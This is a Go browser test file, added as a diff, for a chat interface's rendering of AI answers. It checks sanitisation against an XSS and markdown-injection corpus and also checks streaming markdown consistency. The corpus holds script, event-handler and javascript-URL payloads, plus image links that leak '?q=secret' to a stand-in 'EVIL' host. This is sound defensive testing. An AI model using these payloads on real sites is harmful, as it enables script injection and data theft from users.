@@ -1,0 +1,103 @@
+package web_test
+
+import (
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	"github.com/chromedp/chromedp"
+
+	"parley/core"
+)
+
+// SE-06: nothing that an answer holds runs, or loads anything.
+func playHostile(t *testing.T, g *gateway, p *tab) {
+	var loaded atomic.Int64
+	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { loaded.Add(1) }))
+	t.Cleanup(evil.Close)
+	corpus := []string{
+		"<script>pwned()</script>", "<img src=x onerror=pwned()>", "<svg onload=pwned()>", "<iframe src=EVIL></iframe>",
+		"<style>@import 'EVIL'</style>", "<a href=javascript:pwned()>x</a>", "[x](javascript:pwned())", "[x](JaVaScRiPt:pwned())",
+		"[x](java\tscript:pwned())", "[x](\x01javascript:pwned())", "[x](data:text/html,<script>pwned()</script>)", "[x](vbscript:pwned())",
+		"<javascript:pwned()>", "![secret](EVIL?q=secret)", "![](EVIL?q=secret)", "[![x](EVIL?q=1)](EVIL?q=2)", "![x](data:image/svg+xml,<svg onload=pwned()>)",
+		"```<img src=x onerror=pwned()>\n<script>pwned()</script>\n```", "| <img src=EVIL> |\n|---|\n| <img src=x onerror=pwned()> |",
+		"[x](/relative)", "[x](//EVIL)", "<link rel=prefetch href=EVIL>", "[x](https://ok.example/\" onclick=\"pwned())", "**<b onclick=pwned()>**",
+	}
+	p.before(`window.pwned = () => { window.wasPwned = true; };`)
+	p.open(g.url)
+	p.send("<img src=x onerror=pwned()>")
+	r := g.next(t)
+	text := strings.ReplaceAll(strings.Join(corpus, "\n\n"), "EVIL", evil.URL)
+	r.callback("1", text)
+	r.tool("1", core.Tool{Name: "<img src=x onerror=pwned()>", Stage: core.StageEnd, Result: text, Error: text})
+	for i := 0; i < len(text); i += 7 {
+		r.say(text[i:min(i+7, len(text))])
+	}
+	r.finish(completed, "")
+	p.wait(`all('.answer [aria-label="Copy the answer"]').length === 1`)
+	check := func() {
+		t.Helper()
+		p.is(`window.wasPwned`, "undefined")
+		p.is(`all('.message :is(img, script, iframe, style, link, object, embed, form)').length`, "0")
+		p.is(`all('.message *').flatMap((node) => node.getAttributeNames()).filter((name) => name.startsWith('on') || name === 'src' || name === 'style').join()`, "")
+		p.is(`all('.message a').filter((a) => !/^(https?|mailto):$/.test(a.protocol) || a.origin === location.origin || a.rel !== 'noopener noreferrer').length`, "0")
+	}
+	check()
+	p.is(`all('.message a').length > 0`, "true")
+	p.do(chromedp.Reload())
+	p.wait(`all('.answer').length === 1`)
+	check()
+	if n := loaded.Load(); n != 0 {
+		t.Errorf("%d requests went to a foreign site", n)
+	}
+}
+
+// Text in pieces ends as the same page as text in one piece, and what is closed is not drawn again (ST-20).
+func playMarkdown(_ *testing.T, g *gateway, p *tab) {
+	p.open(g.url)
+	p.eval(`import('/markdown.js').then(({ Markdown }) => { window.Markdown = Markdown; })`)
+	p.wait(`window.Markdown`)
+	texts, err := os.ReadFile(filepath.Join("testdata", "markdown.md"))
+	if err != nil {
+		p.t.Fatal(err)
+	}
+	p.eval(fmt.Sprintf(`window.texts = %q.split('\n=====\n')`, string(texts)+told))
+	p.is(`(() => {
+		const draw = (steps) => {
+			const root = document.createElement('div');
+			const markdown = new Markdown(root);
+			for (const step of steps) { markdown.append(step); markdown.draw(false); }
+			markdown.draw(true);
+			return root.innerHTML;
+		};
+		const wrong = texts.filter((text) => draw([...text]) !== draw([text]) || draw(text.split(/(?<=\n)/)) !== draw([text]));
+		return wrong.join('\n-----\n');
+	})()`, "")
+	p.is(`(() => {
+		const root = document.createElement('div');
+		const markdown = new Markdown(root);
+		for (const text of texts) { markdown.replace(text); markdown.draw(false); }
+		const one = document.createElement('div');
+		const whole = new Markdown(one);
+		whole.append(texts.at(-1)); whole.draw(false);
+		return root.innerHTML === one.innerHTML;
+	})()`, "true")
+	p.is(`(() => {
+		const root = document.createElement('div');
+		const markdown = new Markdown(root);
+		markdown.append('first\n\n'); markdown.append('second\n\nthird'); markdown.draw(false);
+		const first = root.firstChild;
+		let drawn = 0;
+		for (let i = 0; i < 50000; i++) {
+			markdown.append(i % 50 ? 'word ' : '\n\n');
+			if (i % 100 === 0) { markdown.draw(false); drawn++; }
+		}
+		markdown.draw(true);
+		return [root.firstChild === first, root.children.length > 900].join();
+	})()`, "true,true")
+}
